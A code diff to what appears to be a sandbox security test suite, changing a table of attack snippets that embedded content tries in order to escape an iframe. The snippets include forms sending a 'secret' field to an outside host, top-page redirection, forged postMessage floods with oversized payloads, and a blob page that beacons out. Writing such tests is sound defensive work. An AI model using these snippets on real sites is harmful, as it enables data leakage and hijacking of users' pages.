@@ -144,18 +144,18 @@ export const ATTACKS: { readonly [name: string]: string } = {
     object.data = elsewhere + "/object";
     element.append(object);
     return false;`,
-  "a form": `
+  "a form with its data in the address": `
     const form = document.createElement("form");
-    form.action = elsewhere + "/form";
-    form.method = "post";
+    Object.assign(form, { action: elsewhere + "/get", method: "get", target: "_blank" });
+    form.innerHTML = "<input name=secret value=1>";
     element.append(form);
-    form.submit();
+    form.requestSubmit();
     return false;`,
   "a new window": `return window.open(elsewhere + "/window") !== null;`,
   "the parent's document": `return parent.document.title !== undefined;`,
   "the parent's session by a message": `
     parent.postMessage({ type: "tck:theme", theme: "dark" }, "*");
-    parent.postMessage({ type: "open", href: elsewhere + "/message" }, "*");
+    parent.postMessage({ type: "open", href: elsewhere + "/message", inNewTab: true }, "*");
     return false;`,
   "the top page's address": `top.location = elsewhere + "/top"; return false;`,
   "a channel to the page": `
@@ -323,7 +323,7 @@ export const ATTACKS: { readonly [name: string]: string } = {
   "forged messages to the page": `
     const nested = JSON.parse('{"a":'.repeat(1000) + "1" + "}".repeat(1000));
     const forged = [null, 7, "text", [], nested, new Map(), { type: "__proto__" }, { type: {} }, { type: "pong" },
-      { type: "open", href: elsewhere + "/forged" }, { type: "tck:canvas-frame", version: "2" },
+      { type: "open", href: elsewhere + "/forged", inNewTab: true }, { type: "tck:canvas-frame", version: "2" },
       { type: "card", widgetId: "other", state: "failed", failure: "render" }, new ArrayBuffer(10_000_000)];
     for (const message of forged) for (const target of [parent, top]) target.postMessage(message, "*");
     return false;`,
@@ -343,13 +343,19 @@ export const NAVIGATIONS: { readonly [name: string]: string } = {
     location.href = URL.createObjectURL(new Blob(["<script>new Image().src='" + elsewhere + "'</script>"], { type: "text/html" }));`,
   "a reload": `location.reload();`,
   "its own address": `location.search = "?again";`,
+  "a form": `
+    const form = document.createElement("form");
+    Object.assign(form, { action: elsewhere + "/form", method: "post" });
+    form.innerHTML = "<input name=secret value=1>";
+    document.body.append(form);
+    form.submit();`,
   "a data address": `location.href = "data:text/html,<img src=" + elsewhere + ">";`,
 };
 
 /** The attacks that make an open page leave. */
 export const LEAVING = [
   "the top page's address",
-  "a form",
+  "a form with its data in the address",
   "a link that clicks itself",
   "a download",
   "a new window",
